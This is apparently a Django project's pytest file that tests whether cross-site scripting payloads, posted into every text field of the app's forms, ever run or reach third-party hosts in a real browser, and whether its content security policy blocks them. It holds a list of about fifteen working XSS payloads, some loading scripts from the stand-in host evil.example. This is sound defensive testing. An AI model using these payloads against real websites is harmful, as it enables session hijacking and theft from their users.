"""Promise 23. No script is injected, no third party contacted: payloads in every text field, every page in a real browser."""

from __future__ import annotations

import re
from urllib.parse import urlsplit
from zlib import crc32

import pytest
from django.conf import settings
from django.urls import reverse

from tests.addresses import STREAMS, every_address, everywhere, rows_of
from tests.browsers import DESK
from tests.cast import Cast
from tests.nasty import FORM, encoded, forms_near, in_bytes
from tests.pages import Form
from tests.promises.conftest import LONG

RUN = "window.__ran=(window.__ran||0)+1"
# Each breaks out of another place: text, attribute, quotes, script, style, URL, SVG, template, comment, title.
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"javascript:{RUN}//",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}<%= {RUN} %>{{% debug %}}",
    f'--><iframe srcdoc="<script>parent.{RUN}</script>">',
    f'<a href="jav\tascript:{RUN}" id=payload>x</a>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<div hx-get=/ hx-trigger=load hx-on::load={RUN} hx-on:click={RUN}>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css><script src=//evil.example/a.js></script>",
    '<meta http-equiv=refresh content="0;url=//evil.example/"><img src=//evil.example/a.png><object data=//evil.example/>',
    f"\u2028{RUN}//\\u003cscript>{RUN}\\u003c/script>\\",
)
WRITES = ("text", "textarea", "search", "tel", "email", "url", "password")
WHO = ("claire", "fatou", "helene", "bernard", "noor")
READERS = ("claire", "fatou", "helene", "bernard", "nobody", "paul", "admin")
# What would take a person or their words away, and with them what is to be looked at.
NOT_SENT = re.compile(
    r"account_|leave|remove|revoke|withdraw|discard|undo|logout|disconnect|factor|mfa|close|cancel|end_|proof"
)


def post(cast: Cast, person: str, form: Form, payload: str) -> int:
    """Send a form with the payload in every field that takes words; return in how many."""
    client = cast.client_of(person)
    said = {name: one.filled() for name, one in form.fields.items() if one.kind != "file"}
    struck = [name for name, one in form.fields.items() if one.kind in WRITES]
    for name in struck:
        said[name] = "a@example.org" if form.fields[name].kind == "email" else payload
    client.post(form.action, encoded((name, in_bytes(value)) for name, value in said.items()), FORM)
    # Alone as well: a form that refuses one field keeps none of the others.
    for name in struck:
        alone = {other: one.filled() for other, one in form.fields.items() if one.kind != "file"} | {
            name: payload
        }
        client.post(form.action, encoded((other, in_bytes(value)) for other, value in alone.items()), FORM)
    return len(struck)


def strike(cast: Cast) -> tuple[int, int]:
    """Write payloads wherever the pages let one write; return how many fields were struck, and forms."""
    fields = forms = 0
    for person in WHO:
        for kind, form in forms_near(cast, person).items():
            if NOT_SENT.search(kind):
                continue
            forms += 1
            for turn in range(len(PAYLOADS) if LONG else 1):
                fields += post(cast, person, form, PAYLOADS[(forms * 2 + turn) % len(PAYLOADS)])
    return fields, forms


class Eyes:
    """Watches every page of a browser: what ran, what was asked for elsewhere, what was refused."""

    def __init__(self, address: str) -> None:
        self.address, self.seen, self.pages, self.shown = address, [], 0, 0

    def over(self, page) -> None:
        page.on("dialog", lambda dialog: (self.seen.append(f"dialog at {page.url}"), dialog.dismiss()))
        page.on("request", lambda request: self.note(page, request.url))

    def note(self, page, url: str) -> None:
        if not url.startswith((self.address, "about:")):
            self.seen.append(f"foreign host at {page.url}: {url}")

    def look(self, page, url: str) -> None:
        answer = page.goto(
            url
        )  # until it has loaded: what fails to load has failed by then, and what runs has run
        self.pages += 1
        if page.evaluate("window.__ran || 0"):
            self.seen.append(f"ran at {url}")
        kind = (answer.headers if answer else {}).get("content-type", "")
        if "html" in kind:
            self.shown += page.evaluate("document.documentElement.textContent.includes('__ran')")
            # Nothing of ours stands in the page as code: no attribute that acts, no script without a file.
            loose = page.evaluate(LOOSE)
            self.seen += [f"markup at {url}: {one}" for one in loose]


LOOSE = """() => [...document.querySelectorAll("*")].filter(e =>
  [...e.attributes].some(a => /^on/i.test(a.name) || /^hx-on/i.test(a.name) || /^\\s*javascript:/i.test(a.value))
  || (e.matches("script:not([src])") && e.type !== "application/json") || e.matches("iframe,object,embed,base,meta[http-equiv]")
).map(e => e.outerHTML.slice(0, 120))"""


def pages_of(cast: Cast, person: str) -> list[str]:
    """Return the addresses that show this person a page, each with its usual row."""
    found = []
    for address in every_address():
        # In the short form a browser is shown half of the pages; TST_LONG=1 shows it all of them.
        if not (LONG or crc32(address.name.encode()) % 2):
            continue
        if address.name in STREAMS:
            continue
        urls = list(everywhere(address, cast.tilleuls))
        for url in urls if LONG else urls[:1]:
            answer = cast.client_of(person).get(url)
            if answer.status_code == 200 and "html" in answer.headers.get("Content-Type", ""):
                found.append(url)
    return found


@pytest.mark.slow
def test_no_payload_runs_on_any_page(live, cast, open_window, figure):
    fields, forms = strike(cast)
    assert fields > 60, "hardly any field was struck"
    eyes = Eyes(live)
    for person in READERS:
        page = open_window(DESK)
        eyes.over(page)
        value = cast.client_of(person).cookies.get(settings.SESSION_COOKIE_NAME)
        if value:
            host = urlsplit(live).hostname
            page.context.add_cookies(
                [{"name": settings.SESSION_COOKIE_NAME, "value": value.value, "domain": host, "path": "/"}]
            )
        for url in pages_of(cast, person):
            eyes.look(page, url)
        page.context.close()
    assert eyes.shown > 10, "the payloads are shown hardly anywhere: the test is blind"
    assert not eyes.seen, "\n".join(eyes.seen[:30])
    figure(
        f"{fields} fields of {forms} forms struck, {eyes.pages} pages ({eyes.shown} show them), {len(eyes.seen)} executions or foreign hosts"
    )


def test_the_eyes_see(live, open_window):
    """Were a payload let through, it would be seen: as markup, even though the policy keeps it from running."""
    page, eyes = open_window(DESK, bypass_csp=True), Eyes(live)
    eyes.over(page)
    html = f'<html><body><img src=x onerror="{RUN}"><script>{RUN}</script><p>__ran</p>'
    page.route("**/essai", lambda route: route.fulfill(body=html, content_type="text/html"))
    eyes.look(page, f"{live}/essai")
    assert any(one.startswith("ran at") for one in eyes.seen)
    assert any(one.startswith("markup at") for one in eyes.seen)


def serving(body: str, headers: dict[str, str]):
    return lambda route: route.fulfill(body=body, headers=headers)


def test_policy_alone_stops_every_payload(live, browser):
    """The second line: each payload as markup in a page under our policy does not run; without the policy, some do."""
    context = browser.new_context(base_url=live)
    page = context.new_page()
    policy = page.goto("/").headers["content-security-policy"]
    ran = {True: 0, False: 0}
    for guarded in (True, False):
        headers = {"Content-Type": "text/html"} | ({"Content-Security-Policy": policy} if guarded else {})
        for payload in (one for one in PAYLOADS if "evil" not in one):
            body = f'<!doctype html><title>t</title><body><p title="x">{payload}</p></body>'
            page.route("**/essai", serving(body, headers))
            page.goto("/essai", wait_until="domcontentloaded")
            page.wait_for_load_state("load")
            ran[guarded] += bool(page.evaluate("window.__ran || 0"))
            page.unroute("**/essai")
    context.close()
    assert ran[True] == 0
    assert ran[False] >= 3, "the payloads are harmless: the test is blind"


def test_policy_needs_no_nonce_since_nothing_is_inline(cast):
    """A nonce would let some inline code in; here there is none, which is stricter."""
    policy = cast.client_of("claire").get(reverse("programmes:mine")).headers["Content-Security-Policy"]
    assert "nonce" not in policy
    assert "script-src 'self'" in policy
    assert "style-src 'self'" in policy
    assert rows_of(cast.tilleuls)
